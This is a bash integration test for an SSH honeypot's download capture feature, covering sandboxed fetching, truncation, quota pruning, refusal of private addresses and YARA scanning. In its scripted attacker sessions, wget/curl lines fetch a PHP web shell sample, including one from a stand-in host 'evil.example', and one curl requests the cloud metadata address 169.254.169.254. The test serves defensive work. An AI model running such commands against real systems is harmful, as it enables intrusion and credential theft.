#!/usr/bin/env bash
# The SSH honeypot's downloads ([downloads], docs/honeypot.md "Downloads"), end to end
# with real parts: mamori-honeypot started as root (it drops to nobody), a local HTTP
# server (Python's) serving a PHP web shell the shipped YARA rules match, a file larger
# than max_kb and two more, OpenSSH's client with sshpass logging in with an accepted
# password and typing wget/curl, and the agent relaying the honeypot's outbox
# ([agent] honeypot_outbox) with YARA on.
#   - fetch = true, allow_private = true (the test's key: the server is on loopback):
#     the shell is fetched by a sandboxed child, stored as STATE/downloads/<sha256>
#     (0600, the honeypot user's), the event says fetched with its sha256, size and type;
#     the agent scans it and its ssh-download-scanned names the YARA rule and the
#     download event; the same file again is stored once; the large file is cut at
#     max_kb (policy max_kb); past quota_mb the oldest captures are pruned, each an
#     ssh-download-pruned event the agent relays too; ftp:// is refused (scheme);
#   - allow_private = false, in a network namespace of the test's whose /etc/hosts names
#     evil.example 127.0.0.1: a URL to 127.0.0.1 is refused (address) before any
#     process runs, and one to evil.example is refused by the child at connect (a name
#     that resolves inside); the HTTP server sees neither;
#   - fetch = false: the URL is recorded (not-fetched), nothing is fetched or stored.
# Every event of the agent passes `mamori events --check`.
# shellcheck disable=SC2016  # Python filters in single quotes are meant literally
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/netns_lib.sh"

HONEYPOT=$(dirname "$MAMORI")/mamori-honeypot
[[ -x $HONEYPOT ]] || fail "mamori-honeypot is not built beside $MAMORI (cmake --build --preset dev --target mamori-honeypot)"
for tool in sshpass ssh; do
  command -v "$tool" >/dev/null || fail "$tool is not installed (tools/install-deps)"
done
PY=/usr/bin/python3
SAMPLES=$(cd "$(dirname "$0")/../../core/scan/testdata" && pwd)
HP_USER=nobody
HP_UID=$(id -u "$HP_USER")
chmod 0711 "$SCRATCH"  # the dropped honeypot reaches its spool through it

step "files to serve: a web shell, a large file, two more"
WWW=$SCRATCH/www
mkdir -p "$WWW"
cp "$SAMPLES/match/eval_base64.php" "$WWW/shell.php"   # mamori_php_eval_decoded
head -c 3000000 /dev/urandom >"$WWW/big.bin"
head -c 400000 /dev/urandom >"$WWW/one.bin"
head -c 400000 /dev/urandom >"$WWW/two.bin"
sha() { sha256sum "$1" | cut -d' ' -f1; }
SHELL_SHA=$(sha "$WWW/shell.php")
BIG_CUT_SHA=$(head -c $((512 * 1024)) "$WWW/big.bin" | sha256sum | cut -d' ' -f1)

# A tiny HTTP server: Python's, logging each request's path to requests.log; a free
# port written to a file. In namespace NS when given (second argument).
HTTP_LOG=$SCRATCH/requests.log
: >"$HTTP_LOG"
start_http() {  # PORT_FILE [NS]
  local ns=() port_file=$1
  [[ -z ${2:-} ]] || ns=(ip netns exec "$2")
  "${ns[@]}" "$PY" -c '
import http.server, functools, sys, time
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, fmt, *args):
        with open(sys.argv[2], "a") as f:
            f.write(self.path + "\n")
    def do_GET(self):
        if self.path == "/slow":  # headers, then nothing for longer than the timeout
            self.log_message("")
            self.send_response(200)
            self.send_header("Content-Length", "100")
            self.end_headers()
            self.wfile.flush()
            time.sleep(8)
            return
        super().do_GET()
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(H, directory=sys.argv[1]))
open(sys.argv[3] + ".tmp", "w").write(str(s.server_address[1]))
import os; os.rename(sys.argv[3] + ".tmp", sys.argv[3])
s.serve_forever()
' "$WWW" "$HTTP_LOG" "$port_file" 2>>"$SCRATCH/http.err" &
  local pid=$!
  on_exit "stop_pid $pid 'the HTTP server'"
  listening() { [[ -s $port_file ]]; }
  WAIT_EXPLAIN='cat "$SCRATCH/http.err"' wait_for "the HTTP server to listen" listening
}
requests_for() { grep -c "^/$1\$" "$HTTP_LOG" || true; }

HP_STATE=$SCRATCH/honeypot
HP_EVENTS=$HP_STATE/events.jsonl
HP_LOG=$SCRATCH/honeypot.log
HP_PORT=$("$PY" -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
honeypot_config() {  # [downloads] lines...
  {
    echo "listen = \"127.0.0.1:$HP_PORT\""
    echo "state_dir = \"$HP_STATE\""
    echo "user = \"$HP_USER\""
    echo "[[accepted]]"
    echo "user = \"root\""
    echo "password = \"Winter2024!\""
    echo "[downloads]"
    local l
    for l in "$@"; do echo "$l"; done
  } >"$SCRATCH/honeypot.toml"
}
HP_PID=""
start_honeypot() {  # [NS]
  local ns=()
  [[ -z ${1:-} ]] || ns=(ip netns exec "$1")
  local from
  from=$(stat -c %s "$HP_LOG" 2>/dev/null || echo 0)
  "${ns[@]}" "$HONEYPOT" --config "$SCRATCH/honeypot.toml" >>"$HP_LOG" 2>&1 &
  HP_PID=$!
  hp_ready() { tail -c +"$((from + 1))" "$HP_LOG" | grep -q 'ready: listening' || ! kill -0 "$HP_PID" 2>/dev/null; }
  WAIT_SECONDS=60 WAIT_EXPLAIN='cat "$HP_LOG"' wait_for "the honeypot to be ready" hp_ready
  kill -0 "$HP_PID" 2>/dev/null || fail "the honeypot exited at start: $(cat "$HP_LOG")"
}
stop_honeypot() {
  [[ -n $HP_PID ]] || return 0
  local pid=$HP_PID
  HP_PID=""
  stop_pid "$pid" "the honeypot" || fail "the honeypot did not stop within 10 s of SIGTERM"
}
on_exit "stop_honeypot"
hp_events() {  # PYTHON-FILTER: the honeypot's own events so far
  "$PY" -c '
import json, sys
for line in open(sys.argv[2], encoding="utf-8", errors="replace"):
    if line.endswith("\n"):
        e = json.loads(line)
        if eval(sys.argv[1], {"e": e}):
            print(json.dumps(e, sort_keys=True))
' "$1" "$HP_EVENTS"
}
# The download event of URL, once its fetch is over (the honeypot writes it then).
download_of() { hp_events "e[\"event\"][\"action\"] == \"ssh-download-attempted\" and e[\"url\"][\"original\"] == \"$1\""; }
SSH_OPTS=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR
          -o PubkeyAuthentication=no -o ConnectTimeout=10 -p "$HP_PORT")
attacker() {  # COMMAND-LINE [NS]: one session with the accepted password (exit: the last wget/curl's)
  local ns=()
  [[ -z ${2:-} ]] || ns=(ip netns exec "$2")
  expect_exit "0|4|6|7" "${ns[@]}" timeout 30 sshpass -p 'Winter2024!' ssh "${SSH_OPTS[@]}" root@127.0.0.1 "$1"
}
wait_download() {  # URL [N]: waits for its Nth event (default: the first), prints it
  local n=${2:-1}
  has() { [[ $(download_of "$1" | wc -l) -ge $2 ]]; }
  WAIT_ON=$HP_STATE WAIT_SECONDS=40 WAIT_EXPLAIN='tail -n 5 "$HP_LOG"; tail -n 3 "$HP_EVENTS"' \
    wait_for "download event $n of $1" has "$1" "$n"
  download_of "$1" | sed -n "${n}p"
}

step "the agent, relaying the honeypot's outbox, YARA on; the HTTP server on loopback"
SITE=$SCRATCH/site
mkdir -p "$SITE"
echo '<?php echo "hi";' >"$SITE/index.php"
write_config "$SITE"
agent_config "honeypot_outbox = \"$HP_STATE/outbox\""
mamori -q init
start_http "$SCRATCH/.http-port"
HTTP=127.0.0.1:$(cat "$SCRATCH/.http-port")

step "fetch = true (loopback allowed for the test): a web shell, fetched and stored by its hash"
honeypot_config "fetch = true" "allow_private = true" "max_kb = 512" "quota_mb = 1" \
  "per_session = 8" "timeout = 3"
start_honeypot
start_agent
assert_eq "700 $HP_USER" "$(stat -c '%a %U' "$HP_STATE/downloads")" "the downloads directory"
attacker "cd /tmp; wget http://$HTTP/shell.php; curl -O http://$HTTP/shell.php; id"
assert_contains "$OUT" "uid=0(root)"
ev=$(wait_download "http://$HTTP/shell.php")
assert_eq fetched "$(json 'j["mamori"]["ssh"]["download_result"]' "$ev")" "the shell's download result"
assert_eq "$SHELL_SHA" "$(json 'j["file"]["hash"]["sha256"]' "$ev")" "the shell's sha256"
assert_eq "$(stat -c %s "$WWW/shell.php")" "$(json 'j["file"]["size"]' "$ev")" "the shell's size"
assert_eq 200 "$(json 'j["http"]["response"]["status_code"]' "$ev")" "the HTTP status"
[[ -n $(json 'j["file"]["mime_type"]' "$ev") ]] || fail "no content type in $ev"
assert_contains "$(wait_download "http://$HTTP/shell.php" 2)" "stored already" "the same file again"
assert_eq 2 "$(requests_for shell.php)" "requests the server saw for shell.php"
assert_same_file "$WWW/shell.php" "$HP_STATE/downloads/$SHELL_SHA" "the stored capture"
assert_eq "600 $HP_USER" "$(stat -c '%a %U' "$HP_STATE/downloads/$SHELL_SHA")" "the capture's mode and owner"
assert_eq 1 "$(find "$HP_STATE/downloads" -type f | wc -l)" "files stored (one content, once)"
download_id=$(json 'j["event"]["id"]' "$ev")

step "the agent relays it and scans the capture: the YARA rule named"
scanned() { [[ -n $(events 'e["event"]["action"] == "ssh-download-scanned"') ]]; }
WAIT_SECONDS=30 WAIT_EXPLAIN='tail -n 5 "$AGENT_LOG"' wait_for "the agent's scan event" scanned
scan=$(events 'e["event"]["action"] == "ssh-download-scanned"' | head -n 1)
assert_contains "$(json 'j["mamori"]["scan"]["rules"]' "$scan")" "mamori_php_eval_decoded" "the rules matched"
assert_eq "$SHELL_SHA" "$(json 'j["file"]["hash"]["sha256"]' "$scan")" "the scanned file"
assert_eq "$download_id" "$(json 'j["mamori"]["related_event"]' "$scan")" "the download event it follows"
assert_eq 127.0.0.1 "$(json 'j["source"]["ip"]' "$scan")" "who downloaded it"
relayed=$(events "e[\"event\"][\"id\"] == \"$download_id\"")
assert_eq "$SHELL_SHA" "$(json 'j["file"]["hash"]["sha256"]' "$relayed")" "the relayed download event"

step "the fetch child: the honeypot's user, NoNewPrivs, seccomp, rlimits; past timeout it fails (policy timeout)"
attacker "wget http://$HTTP/slow"
child_pid() { pgrep -P "$HP_PID" | head -n 1; }
# Forked, exec'd, then sandboxed: waited for until the filter is on (it never is: a fail).
child_sandboxed() {
  local c
  c=$(child_pid)
  [[ -n $c ]] && grep -q '^Seccomp:[[:space:]]*2$' "/proc/$c/status"
}
WAIT_SECONDS=5 wait_for "the fetch child, its seccomp filter on" child_sandboxed
child=$(child_pid)
status=$(cat "/proc/$child/status")
assert_eq "$HP_UID" "$(awk '/^Uid:/{print $3}' <<<"$status")" "the child's uid"
assert_eq 1 "$(awk '/^NoNewPrivs:/{print $2}' <<<"$status")" "the child's NoNewPrivs"
assert_eq 0000000000000000 "$(awk '/^CapEff:/{print $2}' <<<"$status")" "the child's capabilities"
assert_contains "$(tr '\0' ' ' <"/proc/$child/cmdline")" "--fetch-child http://$HTTP/slow" "the child's command line"
assert_eq "4 5 64 0" "$(awk '/^Max cpu time/{c = $4 " " $5} /^Max open files/{f = $4} /^Max core file size/{k = $5} END{print c, f, k}' "/proc/$child/limits")" \
  "the child's CPU limit (timeout + 1 s, + 2 s), open files, core size"
assert_eq "" "$(tr '\0' '\n' <"/proc/$child/environ")" "the child's environment"
# No descriptor of the honeypot's (outbox, event log, listening socket, sessions) is held.
fds=$(for f in /proc/"$child"/fd/*; do readlink "$f"; done)
assert_not_contains "$fds" "$HP_STATE/" "the child's descriptors (stderr is the honeypot's log)"
assert_contains "$fds" "memfd:mamori-fetch" "the child's descriptors (the body's memfd)"
ev=$(wait_download "http://$HTTP/slow")
assert_eq "failed timeout" "$(json 'j["mamori"]["ssh"]["download_result"] + " " + j["mamori"]["ssh"]["download_policy"]' "$ev")" "a fetch past its timeout"

step "a file larger than max_kb is cut there (policy max_kb); ftp:// is refused (scheme)"
attacker "wget http://$HTTP/big.bin; wget ftp://$HTTP/x"
ev=$(wait_download "http://$HTTP/big.bin")
assert_eq "fetched max_kb True $((512 * 1024)) $BIG_CUT_SHA" \
  "$(json '" ".join(str(x) for x in [j["mamori"]["ssh"]["download_result"], j["mamori"]["ssh"]["download_policy"], j["mamori"]["ssh"]["download_truncated"], j["file"]["size"], j["file"]["hash"]["sha256"]])' "$ev")" \
  "the large file's event"
assert_eq $((512 * 1024)) "$(stat -c %s "$HP_STATE/downloads/$BIG_CUT_SHA")" "the stored part"
ev=$(wait_download "ftp://$HTTP/x")
assert_eq "refused scheme" "$(json 'j["mamori"]["ssh"]["download_result"] + " " + j["mamori"]["ssh"]["download_policy"]' "$ev")" "ftp://"

step "past quota_mb (1 MiB) the oldest captures are pruned, each an event"
attacker "wget http://$HTTP/one.bin; wget http://$HTTP/two.bin"
wait_download "http://$HTTP/one.bin" >/dev/null
wait_download "http://$HTTP/two.bin" >/dev/null
# shell (4 KiB) + big (512 KiB) + one + two (391 KiB each) > 1 MiB: the shell then big go.
pruned=$(hp_events 'e["event"]["action"] == "ssh-download-pruned"')
assert_eq "$SHELL_SHA $BIG_CUT_SHA" "$(json 'j["file"]["hash"]["sha256"]' "$(sed -n 1p <<<"$pruned")") $(json 'j["file"]["hash"]["sha256"]' "$(sed -n 2p <<<"$pruned")")" "what was pruned, oldest first"
assert_eq 2 "$(grep -c . <<<"$pruned")" "prune events"
assert_eq quota_mb "$(json 'j["mamori"]["ssh"]["download_policy"]' "$(sed -n 1p <<<"$pruned")")" "the prune's policy"
[[ ! -e $HP_STATE/downloads/$SHELL_SHA && ! -e $HP_STATE/downloads/$BIG_CUT_SHA ]] || fail "a pruned file is still there"
assert_eq "$(printf '%s\n' "$(sha "$WWW/one.bin")" "$(sha "$WWW/two.bin")" | sort | tr '\n' ' ')" \
  "$(ls "$HP_STATE/downloads" | sort | tr '\n' ' ')" "what is kept"
used=$(du -sb "$HP_STATE/downloads" | cut -f1)
((used <= 1048576 + 8192)) || fail "the downloads directory holds $used bytes, over its 1 MiB quota"
relayed_prunes() { [[ $(events 'e["event"]["action"] == "ssh-download-pruned"' | wc -l) -eq 2 ]]; }
WAIT_SECONDS=20 WAIT_EXPLAIN='tail -n 5 "$AGENT_LOG"' wait_for "the agent to relay both prunes" relayed_prunes
stop_honeypot

step "allow_private = false, in a namespace whose hosts file sends evil.example to 127.0.0.1"
NS=mamori-hpdl-$$
netns_add "$NS"
mkdir -p "/etc/netns/$NS"
on_exit "rm -rf /etc/netns/$NS"
printf '127.0.0.1 localhost evil.example\n' >"/etc/netns/$NS/hosts"
start_http "$SCRATCH/.http-port-ns" "$NS"
NS_HTTP_PORT=$(cat "$SCRATCH/.http-port-ns")
in_ns "$NS" curl -sf -o /dev/null "http://evil.example:$NS_HTTP_PORT/shell.php" ||
  fail "the namespace's server is not reachable as evil.example (the test's own setup)"
before=$(requests_for shell.php)
honeypot_config "fetch = true" "max_kb = 512" "quota_mb = 1"
start_honeypot "$NS"
attacker "wget http://127.0.0.1:$NS_HTTP_PORT/shell.php; wget http://evil.example:$NS_HTTP_PORT/shell.php; curl http://169.254.169.254/latest/meta-data/" "$NS"
for url in "http://127.0.0.1:$NS_HTTP_PORT/shell.php" "http://evil.example:$NS_HTTP_PORT/shell.php" \
  "http://169.254.169.254/latest/meta-data/"; do
  ev=$(wait_download "$url")
  assert_eq "refused address" "$(json 'j["mamori"]["ssh"]["download_result"] + " " + j["mamori"]["ssh"]["download_policy"]' "$ev")" "$url"
done
assert_eq "$before" "$(requests_for shell.php)" "requests the server saw (none: every fetch was refused)"
stop_honeypot

step "fetch = false: recorded, nothing fetched"
before=$(requests_for shell.php)
files_before=$(find "$HP_STATE/downloads" -type f | wc -l)
honeypot_config "fetch = false"
start_honeypot
attacker "wget http://$HTTP/shell.php"
assert_contains "$OUT" "Network is unreachable" "the fake shell's answer (as with fetch on)"
ev=$(wait_download "http://$HTTP/shell.php" 3)
assert_eq not-fetched "$(json 'j["mamori"]["ssh"]["download_result"]' "$ev")" "fetch = false"
assert_eq "$before" "$(requests_for shell.php)" "requests the server saw"
assert_eq "$files_before" "$(find "$HP_STATE/downloads" -type f | wc -l)" "files stored"
stop_honeypot

step "every event of the agent passes the field list"
check_events
